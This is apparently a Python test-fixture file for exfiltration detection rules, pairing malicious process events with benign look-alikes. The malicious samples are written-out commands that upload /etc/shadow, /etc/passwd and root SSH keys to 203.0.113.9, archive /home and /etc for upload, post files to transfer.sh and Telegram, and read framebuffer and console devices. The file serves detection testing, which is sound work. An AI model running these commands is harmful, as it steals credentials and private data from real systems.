from made_events import opened, started
from rule_cases import Cases

__all__ = ["CASES"]

CASES: Cases = {
    "Sensitive file sent away": (
        [
            started("curl -F f=@/etc/shadow http://203.0.113.9/"),
            started("scp /root/.ssh/id_rsa x@203.0.113.9:"),
            started("wget --post-file=/etc/passwd http://203.0.113.9/"),
        ],
        [
            started("curl -F f=@report.pdf https://example.org/"),
            started("scp -i /root/.ssh/id_rsa report.pdf x@203.0.113.9:"),
            started("rsync -a /srv/ backup:/srv/"),
        ],
    ),
    "Sensitive directories packed": (
        [started("tar czf /tmp/x.tgz /etc/shadow /root/.ssh/id_rsa")],
        [started("tar czf /backup/etc.tgz /etc"), started("tar xf keys.tar home/ann/.ssh/id_rsa")],
    ),
    "Archive made and sent away": (
        [
            [
                started("tar czf /tmp/.d.tgz /home /etc", parents="sh bash"),
                started("curl -T /tmp/.d.tgz http://203.0.113.9/", parents="sh bash"),
            ]
        ],
        [
            [
                started("tar czf /tmp/src.tgz src", parents="sh bash"),
                started("scp /tmp/src.tgz build:", parents="sh bash"),
            ],
            [
                started("tar czf /backup/etc.tgz /etc", parents="sh bash"),
                started("ls /backup", parents="sh bash"),
            ],
        ],
    ),
    "File sent to a public drop": (
        [
            started("curl --upload-file x https://transfer.sh/x"),
            started("curl -F document=@x https://api.telegram.org/bot1/sendDocument"),
        ],
        [started("curl https://example.org/"), started("curl https://pastebin.com/raw/x")],
    ),
    "Screen or terminal recorded": (
        [opened("/dev/fb0", "python3 x.py"), opened("/dev/vcsa1", "cat /dev/vcsa1")],
        [opened("/dev/fb0", "Xorg", exe="/usr/lib/xorg/Xorg"), opened("/dev/null", "cat /dev/null")],
    ),
}
